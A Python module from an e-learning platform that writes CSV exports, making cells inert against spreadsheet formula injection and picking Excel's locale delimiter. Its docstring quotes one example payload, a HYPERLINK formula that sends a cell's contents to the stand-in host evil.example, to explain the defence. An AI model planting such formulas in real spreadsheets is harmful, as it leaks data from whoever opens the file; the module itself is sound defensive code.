"""Every CSV the platform writes, written here: cells a spreadsheet would run as formulas are
made inert, and columns are separated as Excel expects in the reader's regional settings.

Formula injection (OWASP "CSV Injection"): a cell starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is a formula to Excel and LibreOffice, so a trainee named
``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would run in the coordinator's spreadsheet. Such
a cell gets a leading single quote, and every cell is quoted. The one exception is a negative
number as the reports write it (``-25%``, ``-1 234,5``): digits, separators and a percent sign
cannot form a formula, and it stays a number that sorts and sums."""

import csv
import io
import re

from babel.numbers import get_decimal_symbol

from elearn.web.tables import Table

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NEGATIVE_NUMBER = re.compile(r"-\d[\d.,\u00a0\u202f ]*(?:[\u00a0 ]?%)?")
DELIMITERS = {"comma": ",", "semicolon": ";"}


def inert(value: str) -> str:
    """The cell's text as a spreadsheet should show it, never run it."""
    if value.startswith(FORMULA_START) and not NEGATIVE_NUMBER.fullmatch(value):
        return "'" + value
    return value


def locale_delimiter(locale: str) -> str:
    """The name of the column separator Excel uses with ``locale``'s regional settings: where
    the decimal separator is a comma (ro, uk, az, hy, ka), the list separator is a semicolon."""
    return "semicolon" if get_decimal_symbol(locale) == "," else "comma"


def table_csv(table: Table, delimiter: str = "comma") -> str:
    """UTF-8 CSV with a byte-order mark, so Excel shows Armenian and Georgian correctly."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=DELIMITERS[delimiter], quoting=csv.QUOTE_ALL)
    writer.writerow([inert(header) for header in table.headers])
    writer.writerows([inert(cell.text) for cell in row] for row in table.rows)
    return "\ufeff" + out.getvalue()
